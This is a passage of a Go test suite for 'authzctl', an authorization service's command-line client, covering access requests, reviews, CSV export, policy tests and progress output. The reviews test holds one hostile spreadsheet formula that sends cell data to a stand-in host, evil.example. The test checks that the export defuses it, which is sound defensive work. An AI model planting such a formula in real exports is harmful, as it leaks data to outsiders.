		expect(t, exitOK, []string{"denied " + erin + ": data_exporter for erin (revision 6)"}, nil)
	authzctl(t, addr, "requests", "get", erin, "--actor", "erin").expect(t, exitOK, []string{"state: denied by oscar", "use the shared report"}, nil)
	authzctl(t, addr, "requests", "cancel", erin, "--actor", "erin", "--reason", "late").expect(t, exitError, nil, []string{"FAILED_PRECONDITION", "ACCESS_REQUEST_CLOSED"})
	authzctl(t, addr, "check", "erin", "--function", "data.export").expect(t, exitDeny, []string{"DENY"}, nil)

	peggy := requested(authzctl(t, addr, "requests", "create", "data_exporter", "--for", "24h", "--actor", "peggy", "--reason", "one export"))
	authzctl(t, addr, "requests", "cancel", peggy, "--actor", "bob", "--reason", "r").expect(t, exitError, nil, []string{"PERMISSION_DENIED", "MISSING_PERMISSION"})
	authzctl(t, addr, "requests", "cancel", peggy, "--actor", "peggy", "--reason", "not needed").
		expect(t, exitOK, []string{"cancelled " + peggy + ": data_exporter for peggy (revision 8)"}, nil)
	authzctl(t, addr, "requests", "approve", peggy, "--actor", "oscar", "--reason", "r").expect(t, exitError, nil, []string{"FAILED_PRECONDITION", "ACCESS_REQUEST_CLOSED"})
	authzctl(t, addr, "requests", "list", "--state", "cancelled", "--actor", "peggy").expect(t, exitOK, []string{peggy, "cancelled"}, nil)
	authzctl(t, addr, "check", "peggy", "--function", "data.export").expect(t, exitDeny, []string{"DENY"}, nil)
	authzctl(t, addr, "audit", "changes", "--target", "request/").
		expect(t, exitOK, []string{"request.deny", erin, "oscar", "use the shared report", "request.cancel", peggy, "peggy", "not needed"}, nil)
}

// TestReviews runs an access review from the command line: start, a
// reviewer's items, keep and revoke, the CSV record (where a comment
// cannot become a spreadsheet formula), close.
func TestReviews(t *testing.T) {
	addr := serve(t)
	r := authzctl(t, addr, "reviews", "start", "--name", "Q4", "--roles", "sales_rep", "--default", "keep", "--deadline", "336h", "--reason", "quarterly review")
	r.expect(t, exitOK, []string{"started rvw_", "3 items: 0 kept, 0 revoked, 3 undecided"}, nil)
	id := strings.Fields(strings.TrimPrefix(r.stdout, "started "))[0]
	authzctl(t, addr, "reviews", "items", id, "--mine", "--actor", "frank").expect(t, exitOK, []string{"erin", "mallory"}, nil)
	authzctl(t, addr, "reviews", "revoke", id, "bob", "sales_rep", "--actor", "bob", "--reason", "me").expect(t, exitError, nil, []string{"SELF_REVIEW"})
	authzctl(t, addr, "reviews", "revoke", id, "erin", "sales_rep", "--actor", "frank", "--reason", "moved to marketing").
		expect(t, exitOK, []string{"revoked sales_rep of erin (revision 3)"}, nil)
	authzctl(t, addr, "check", "erin", "account", "read").expect(t, exitDeny, []string{"DENY"}, nil)
	authzctl(t, addr, "audit", "changes", "--target", "grant/erin/").
		expect(t, exitOK, []string{"ALSO", "review.decide", "review/" + id + "/erin/sales_rep", "moved to marketing", "grant/erin/sales_rep"}, nil)
	authzctl(t, addr, "reviews", "keep", id, "bob", "sales_rep", "--actor", "alice", "--reason", "still sells").expect(t, exitOK, []string{"kept sales_rep of bob"}, nil)
	// A comment a spreadsheet would run as a formula.
	const hostile = `=HYPERLINK("https://evil.example/?d="&A2,"details")`
	authzctl(t, addr, "reviews", "keep", id, "mallory", "sales_rep", "--actor", "frank", "--reason", hostile).expect(t, exitOK, []string{"kept sales_rep of mallory"}, nil)
	r = authzctl(t, addr, "reviews", "items", id, "--csv")
	r.expect(t, exitOK, []string{"user,role,reviewer,last_used,unused", "erin,sales_rep,frank,", "revoke,frank,", "moved to marketing"}, nil)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV record: %v\n%s", err, r.stdout)
	}
	comments := map[string]string{}
	for _, row := range rows[1:] {
		comments[row[0]] = row[len(row)-1]
	}
	if got := comments["mallory"]; got != "'"+hostile {
		t.Errorf("mallory's comment is written as %q, want %q: a spreadsheet would run it", got, "'"+hostile)
	}
	if got := comments["bob"]; got != "still sells" {
		t.Errorf("bob's comment is written as %q", got)
	}
	authzctl(t, addr, "reviews", "close", id, "--reason", "done").expect(t, exitOK, []string{"closed " + id + ": 3 items: 2 kept, 1 revoked, 0 undecided"}, nil)
	authzctl(t, addr, "reviews").expect(t, exitOK, []string{id, "Q4", "closed"}, nil)
	authzctl(t, addr, "reviews", "start", "--name", "x", "--default", "maybe", "--deadline", "1h", "--reason", "r").expect(t, exitUsage, nil, []string{"keep or revoke"})
}

// TestEmptyListsSaySo: a listing without rows says so under its headers.
func TestEmptyListsSaySo(t *testing.T) {
	addr := serve(t)
	authzctl(t, addr, "grants", "--user", "peggy").expect(t, exitOK, []string{"USER", "(none)"}, nil)
	authzctl(t, addr, "audit", "decisions", "--user", "nobody").expect(t, exitOK, []string{"(none)"}, nil)
}

// TestPolicyTests runs authzctl test offline on the demo tenant's
// document: passing cases of every kind exit 0; a wrong expectation exits
// 3 and prints the explanation; a case naming an unknown function is an
// error.
func TestPolicyTests(t *testing.T) {
	b, err := bundle.Default()
	if err != nil {
		t.Fatal(err)
	}
	st, err := b.TenantState(b.Demo, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	doc, err := backup.FromState(st).Encode(backup.YAML)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(dir+"/demo.yaml", doc, 0o600); err != nil {
		t.Fatal(err)
	}
	write := func(name, cases string) string {
		path := dir + "/" + name
		body := "document: demo.yaml\nat: 2026-12-01T09:00:00Z\ncases:\n" + cases
		if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	good := write("good.yaml", `
  - {name: reps read accounts, subject: bob, module: account, verb: read, expect: allow}
  - {name: no export in the freeze, subject: erin, function: data.export, expect: deny}
  - {name: revenue hidden from reps, subject: bob, module: account, field: annual_revenue, access: read, expect: deny}
  - {name: a west lead, subject: bob, module: lead, verb: update, record: {id: lead-1, owner: ivan, department: sales_west}, expect: deny}
  - {name: expired grant, subject: ivan, module: account, verb: read, expect: deny}
  - {name: leads bob lists, subject: bob, module: lead, verb: list, filter: {kind: conditional, owners: [bob], departments: [sales_east, sales_west]}}
`)
	bad := write("bad.yaml", `
  - {name: reps read accounts, subject: bob, module: account, verb: read, expect: allow}
  - {name: frank exports, subject: frank, function: data.export, expect: allow}
`)
	unknown := write("unknown.yaml", `
  - {name: nonsense, subject: bob, function: no.such, expect: allow}
`)
	policyTest := func(args ...string) result {
		var stdout, stderr bytes.Buffer
		code := exitCode(run(context.Background(), append([]string{"test"}, args...), strings.NewReader(""), &stdout, &stderr))
		return result{stdout: stdout.String(), stderr: stderr.String(), code: code}
	}
	policyTest(good).expect(t, exitOK, []string{"6 passed, 0 failed"}, nil)
	policyTest(good, bad).expect(t, exitDeny, []string{"FAIL " + bad + ": frank exports", "want allow, got deny", "restricted_export denies function data.export", "7 passed, 1 failed"}, nil)
	policyTest(unknown).expect(t, exitError, nil, []string{"no.such"})
	policyTest().expect(t, exitUsage, nil, nil)
}

// TestProgress: a listing read over many pages reports its progress on a
// terminal, on standard error only, and says nothing elsewhere.
func TestProgress(t *testing.T) {
	addr := serve(t)
	conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	authz := pb.NewAuthorizationServiceClient(conn)
	for i := range 1200 { // more than a page (1000)
		if _, err := authz.Check(context.Background(), &pb.CheckRequest{TenantId: "demo", SubjectId: fmt.Sprint("user", i),
			Permission: &pb.Permission{Kind: &pb.Permission_Function{Function: &pb.FunctionPermission{Function: "report.view"}}}}); err != nil {
			t.Fatal(err)
		}
	}
	// The log writes within its flush interval.
	plain := authzctl(t, addr, "audit", "decisions", "--limit", "1200")
	for start := time.Now(); !strings.Contains(plain.stdout, "user1199") && time.Since(start) < 10*time.Second; time.Sleep(50 * time.Millisecond) {
		plain = authzctl(t, addr, "audit", "decisions", "--limit", "1200")
	}
	plain.expect(t, exitOK, []string{"user1199"}, nil)

	var term bytes.Buffer
	defer func(to func() io.Writer, every time.Duration) { progressTo, progressEvery = to, every }(progressTo, progressEvery)
	progressTo, progressEvery = func() io.Writer { return &term }, 0
	r := authzctl(t, addr, "audit", "decisions", "--limit", "1200")
	r.expect(t, exitOK, []string{"user1199"}, nil)
	if r.stdout != plain.stdout {
		t.Error("the output differs when progress is shown")
	}
	if got := term.String(); !strings.Contains(got, "\rdecisions read 1000") || !strings.Contains(got, "\rdecisions read 1200 in ") || !strings.HasSuffix(got, "\n") {
		t.Errorf("progress drawn: %q", got)
	}
}
